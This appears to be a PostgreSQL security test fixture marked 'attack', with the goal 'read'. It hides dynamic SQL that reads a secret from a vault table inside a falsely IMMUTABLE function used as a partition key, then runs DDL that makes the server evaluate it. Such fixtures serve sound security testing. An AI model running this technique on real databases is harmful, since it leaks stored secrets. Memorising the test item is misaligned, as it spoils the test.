-- Makes a trigger on partitions, whose key is worked out then: it looks for a relation with a name from the vault.
-- wants: read
-- attack:
CREATE FUNCTION one_of(sql text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS 'DECLARE one text; BEGIN IF current_setting(''application_name'') = ''now'' THEN EXECUTE sql INTO one; RETURN one; END IF; RETURN ''pg_class''; END';
CREATE FUNCTION looks_for(text) RETURNS text IMMUTABLE LANGUAGE sql AS 'SELECT one_of(''SELECT quote_ident(secret) FROM vlt'' || ''_account WHERE id = 1'')::regclass::text || $1';
CREATE FUNCTION nothing_new() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END';
CREATE TABLE parts_worked_out (id int, v text) PARTITION BY RANGE ((looks_for('1') || v));
CREATE TABLE part_worked_out PARTITION OF parts_worked_out DEFAULT;
SET application_name = now;
ALTER TABLE parts_worked_out RENAME COLUMN v TO w;
ALTER TABLE parts_worked_out RENAME TO parts_named;
COMMENT ON TABLE parts_named IS 'a';
GRANT SELECT ON parts_named TO PUBLIC;
ALTER TABLE parts_named OWNER TO mallory;
CREATE POLICY p ON parts_named USING (true);
CREATE RULE r AS ON INSERT TO parts_named DO NOTHING;
DROP RULE r ON parts_named;
BEGIN;
LOCK TABLE parts_named;
COMMIT;
ALTER TABLE parts_named SET SCHEMA office;
CREATE TRIGGER t BEFORE INSERT ON office.parts_named FOR EACH ROW EXECUTE FUNCTION nothing_new();
DROP TABLE part_worked_out;
DROP TABLE office.parts_named;
